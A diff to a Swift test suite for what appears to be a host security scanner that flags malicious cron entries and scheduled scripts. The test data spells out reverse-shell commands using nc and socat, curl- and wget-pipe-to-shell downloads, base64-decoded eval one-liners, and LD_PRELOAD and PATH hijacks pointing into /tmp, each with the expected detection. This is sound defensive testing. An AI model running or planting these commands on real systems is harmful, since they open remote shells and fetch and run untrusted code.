@@ -13,6 +13,18 @@ import Testing
         ("*/5 * * * * root cd / && nohup /dev/shm/a &", ["temporary high"]),
         ("*/5 * * * * root A=1 nice -n 10 /var/tmp/a", ["temporary high"]),
         ("*/5 * * * * root cd /tmp && ./a", ["temporary high"]), ("*/5 * * * * root cd /srv/app && ./a", []),
+        ("* * * * * root nc -e /bin/sh 192.0.2.7 99", ["connection high"]),
+        ("* * * * * root nc.traditional 192.0.2.7 99 -lvpe bash", ["connection high"]),
+        ("* * * * * root socat tcp:192.0.2.7:99 EXEC:/bin/sh", ["connection high"]),
+        ("* * * * * root nc -z 192.0.2.7 25 || /usr/bin/alarm -e", []), ("* * * * * root socat - tcp:192.0.2.7:99", []),
+        ("@daily root python3 -c \"exec(__import__('base64').b64decode('cHJpbnQ='))\"", ["decoded high"]),
+        ("@daily root perl -MMIME::Base64 -e 'eval decode_base64(qq(eA==))'", ["decoded high"]),
+        ("@daily root python3 -c \"import base64; print(base64.b64decode('eA=='))\"", []),
+        ("@daily root curl -s http://192.0.2.1/a | python3", ["download high"]),
+        ("@daily root curl -s http://192.0.2.1/a | python3 -m json.tool", []),
+        ("LD_PRELOAD=/tmp/x.so", ["variable-temporary high"]), ("LD_PRELOAD=/usr/lib/x.so", ["variable medium"]),
+        ("PATH=\"/tmp:/usr/bin\"", ["variable-temporary high"]), ("SHELL=/dev/shm/sh", ["variable-temporary high"]),
+        ("PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin", []), ("MAILTO=/tmp", []),
         ("5 4 * * * root /opt/.hidden/run", ["hidden medium"]),
         ("5 4 * * * nosuch /usr/bin/true", ["unknown-user medium"]), ("five times a day it runs", ["unreadable low"]),
         ("5 4 * * * root find /tmp -mtime +7 -delete", []),
@@ -62,6 +74,43 @@ import Testing
                 "at alice | at \(0x1c89261 * 60) s since 1970 | /tmp/evil --now | /var/spool/cron/atjobs/a0000101c89261:10",
             ])
         #expect(try await tree.told().contains("accounts.schedules temporary high"))
+    }
+
+    @Test(arguments: [
+        ("#!/bin/sh\ncurl http://192.0.2.1/|sh\n", ["schedules download high"]),
+        ("#!/bin/sh\nif true; then\n  wget -qO- http://192.0.2.1/ \\\n    | bash\nfi\n", ["schedules download high"]),
+        ("#!/bin/sh\n# curl http://192.0.2.1/|sh\ncurl -s http://192.0.2.1/ | grep ok\n", []),
+        ("#!/bin/sh\ntest -x /usr/bin/x || exit 0\nfind /tmp -mtime +9 -delete\n", []),
+        ("\u{7F}ELF\0curl http://192.0.2.1/|sh\n", []),
+    ])
+    func `of the folders are looked into`(_ script: String, _ told: [String]) async throws {
+        let tree = try AccountTree()
+        try tree.write("/etc/cron.hourly/x", script, mode: 0o755)
+        #expect(try await tree.told() == told.map { "accounts.\($0)" })
+    }
+
+    @Test func `are shown as they stand in their files`() async throws {
+        let tree = try AccountTree(AccountTree.account("alice", 1000, "!"))
+        try tree.write("/var/spool/cron/crontabs/alice", "* * * * * /tmp/a\n", mode: 0o600)
+        try tree.write("/etc/cron.weekly/x", "#!/bin/sh\nwget -O- http://192.0.2.1/ | sh\n", mode: 0o755)
+        try tree.write("/etc/anacrontab", "1 5 x /tmp/b\n")
+        let shown = try await tree.findings().flatMap(\.evidence).map { "\($0.locator) \($0.excerpt)" }.sorted()
+        #expect(
+            shown == [
+                "/etc/anacrontab:1 1 5 x /tmp/b", "/etc/cron.weekly/x:2 wget -O- http://192.0.2.1/ | sh",
+                "/var/spool/cron/crontabs/alice:1 * * * * * /tmp/a",
+            ])
+    }
+
+    @Test func `that cannot be read are a gap`() async throws {
+        let tree = try AccountTree()
+        try FileManager.default.createDirectory(
+            atPath: tree.path + "/etc/crontab", withIntermediateDirectories: true)
+        try FileManager.default.createDirectory(
+            atPath: tree.path + "/etc/cron.d/folder", withIntermediateDirectories: true)
+        #expect(unsafe mkfifo(tree.path + "/etc/cron.d/x", 0o600) == 0)
+        #expect(
+            try await tree.gaps() == ["/etc/crontab: not a regular file", "/etc/cron.d/x: not a regular file"])
     }
 
     @Test func `are told when others may change what they run`() async throws {
